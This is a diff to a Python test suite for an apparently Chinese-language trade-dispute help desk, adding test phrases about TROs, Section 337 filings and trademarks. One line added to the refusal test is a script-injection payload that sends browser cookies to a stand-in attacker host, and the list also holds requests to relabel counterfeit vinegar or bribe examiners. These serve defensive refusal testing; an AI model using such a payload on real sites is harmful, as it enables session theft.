@@ -105,6 +105,7 @@ def test_harmful_and_injection_are_refused_whatever_the_nlu_says(kb) -> None:
         "山寨的陈醋贴上我们自己的标，出口到中东能行吗",
         "送点购物卡给审查员，申请能不能快点批下来",
         "展会上我们假装去投诉隔壁展位侵权，让他被撤展",
+        "<script>fetch('https://attacker.example/?c='+document.cookie)</script>",
     ):
         decision = decide(kb, reading(text, "ask_marketplace"))
         assert decision.kind == "refuse" and decision.item is None, text
@@ -151,6 +152,7 @@ def test_a_topic_goes_stale_after_a_few_turns(kb) -> None:
         "请问德国展会上的临时禁令怎么应对",
         "听朋友说有人在展会上被法警把样品收走了，我们参展前该准备什么？",
         "同行上个月被TRO了，冻了三万多美金，我们目前没出事，平时该怎么预防？",
+        "排除令下来以后，没被列为被申请人的厂家出口也受影响吗",
     ],
 )
 def test_general_questions_carry_no_urgency(text: str) -> None:
@@ -174,6 +176,10 @@ def test_general_questions_carry_no_urgency(text: str) -> None:
         "店铺被冻结了！！！快点找人！！！",
         "马来西亚有人把我们的牌子申请成商标了，异议期还剩不到两周",
         "对方律师发来和解条件，下周三之前要答复",
+        "律所邮件附件里写着337-TA-14开头的编号，说我们是被申请人之一",
+        "沃尔玛的店昨晚不让卖了，邮件说有一家美国公司在伊利诺伊起诉我们",
+        "Our Walmart store got a notice that a court ordered our listings taken down and the funds held.",
+        "人在展会上，刚才有人到我们展位递了一份temporary restraining order",
     ],
 )
 def test_concrete_signs_of_a_live_dispute_are_urgent(text: str) -> None:
@@ -333,3 +339,13 @@ def test_complaints_about_the_service_bring_in_a_person(text: str) -> None:
 
 def test_a_story_told_from_home_about_a_fair_abroad_is_not_inside_china() -> None:
     assert not cues.inside_china("我们在拉斯维加斯CES展位上收到了temporary restraining order，老板在国内")
+
+
+def test_small_talk_in_words_the_desk_does_not_know_is_told_what_the_desk_does(kb) -> None:
+    decision = decide(kb, reading("哈哈哈你好呆萌啊", "out_of_scope", 1.0))
+    assert decision.kind == "refer" and decision.referral is not None
+    assert decision.referral.id == "referral:chitchat"
+
+
+def test_an_english_question_about_a_filing_in_china_is_domestic() -> None:
+    assert cues.inside_china("How do I register a trademark in China for our new brand?")
